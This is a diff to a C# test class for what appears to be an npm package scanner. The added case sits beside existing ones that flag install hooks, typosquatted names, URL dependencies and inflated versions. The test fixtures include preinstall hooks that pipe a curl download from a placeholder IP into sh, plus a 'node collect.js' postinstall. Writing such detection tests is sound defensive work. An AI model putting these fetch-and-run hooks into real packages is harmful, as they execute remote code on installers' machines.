@@ -15,6 +15,7 @@ public sealed class PackagesStageTests
     [
         Npm(InstallHook, "\"scripts\":{\"postinstall\":\"node collect.js\"}", "\"scripts\":{\"install\":\"node-gyp rebuild\"}", "\"scripts\":{\"test\":\"node collect.js\"}", "\"description\":\"postinstall\""),
         Npm(HookNetwork, "\"scripts\":{\"preinstall\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"preinstall\":\"node-gyp rebuild\"}", "\"scripts\":{\"test\":\"curl -s http://192.0.2.1/\"}", "\"scripts\":{\"postinstall\":\"echo thank you\"}"),
+        Npm(HookActs, "\"scripts\":{\"preinstall\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"preinstall\":\"curl -sO http://host.invalid/a.zip\"}", "\"scripts\":{\"test\":\"curl -s http://192.0.2.1/a | sh\"}", "\"scripts\":{\"postinstall\":\"node collect.js\"}"),
         new(TypoSquat, Json("\"name\":\"lodahs\""), Json("\"name\":\"lodash\""), Json("\"name\":\"web4\""), Json("\"name\":\"dash\"")),
         Npm(DependencyUrl, "\"dependencies\":{\"a\":\"http://192.0.2.1/a.tgz\"}", "\"dependencies\":{\"a\":\"^1.0.0\"}", "\"homepage\":\"http://host.invalid/\"", "\"dependencies\":{\"a\":\"file:../a\"}"),
         new(HugeVersion, Json("\"name\":\"inner\",\"version\":\"999.0.1\""), Json("\"name\":\"inner\",\"version\":\"98.0.1\""), Json("\"name\":\"inner\",\"version\":\"2026.1.0\""), Json("\"name\":\"inner\",\"version\":\"1.999.0\"")),
